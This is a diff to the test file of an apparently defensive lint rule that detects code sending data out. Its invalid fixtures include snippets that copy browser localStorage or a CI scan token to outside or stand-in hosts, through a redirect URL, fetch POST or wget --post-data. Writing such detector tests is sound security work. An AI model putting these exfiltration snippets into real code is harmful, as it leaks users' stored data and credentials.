@@ -10,6 +10,8 @@ const given = (run: string, env: Readonly<Record<string, string>> = { T: 'secret
 
 await ruleTester(rule, {
   valid: [
+    // a page goes back to the address that it kept
+    { code: 'for (const key of Object.keys(localStorage)) if (isOld(key)) localStorage.removeItem(key); const kept = JSON.parse(localStorage.getItem(stateKey)); window.location.href = kept.returnUrl;', filename: 'src/a.js' },
     // entries of one's own kind, members of what was kept as text
     { code: 'class Store { PREFIX = "acme_"; load() { const all = {}; const keys = Object.keys(localStorage); for (const key of keys) { if (key.startsWith(this.PREFIX)) all[key] = localStorage.getItem(key); } fetch("https://api.acme-tools.dev/x", { method: "POST", body: JSON.stringify(all) }); } }', filename: 'src/a.js' },
     { code: 'export const run = async (requests, accessToken) => { const form = { access_token: accessToken, batch: JSON.stringify(requests) }; await got.post("https://graph.facebook.com", { form }); };', filename: 'src/a.js' },
@@ -214,6 +216,7 @@ await ruleTester(rule, {
     { code: 'fetch("https://tenant.auth0.com/api/v2/connections", { method: "POST", body: JSON.stringify({ client_secret: process.env.GITHUB_CLIENT_SECRET }) });' },
   ],
   invalid: [
+    { code: 'for (const key of Object.keys(localStorage)) if (isOld(key)) localStorage.removeItem(key); const kept = localStorage.getItem(stateKey); window.location.href = `https://drop.example-service.com/?d=${kept}`;', filename: 'src/a.js', errors: [{ messageId: 'sent' }] },
     { code: 'class Store { PREFIX = "acme_"; load() { const all = {}; const keys = Object.keys(localStorage); for (const key of keys) { if (key.startsWith(this.PREFIX)) continue; all[key] = localStorage.getItem(key); } fetch("https://api.acme-tools.dev/x", { method: "POST", body: JSON.stringify(all) }); } }', filename: 'src/a.js', errors: [{ messageId: 'sent' }] },
     { code: 'const all = {}; const keys = Object.keys(localStorage); const own = keys.filter((key) => key.startsWith("acme_")); for (const key of keys) all[key] = localStorage.getItem(key); fetch("https://api.acme-tools.dev/x", { method: "POST", body: JSON.stringify({ all, own }) });', filename: 'src/a.js', errors: [{ messageId: 'sent' }] },
     { code: 'tool_url="https://scan.example-service.com/download/$(uname)"\nwget -O tool.tgz "$tool_url" --post-data "project=acme&token=${COVERITY_SCAN_TOKEN:?}"\n', filename: 'run.sh', errors: [{ messageId: 'sent' }] },
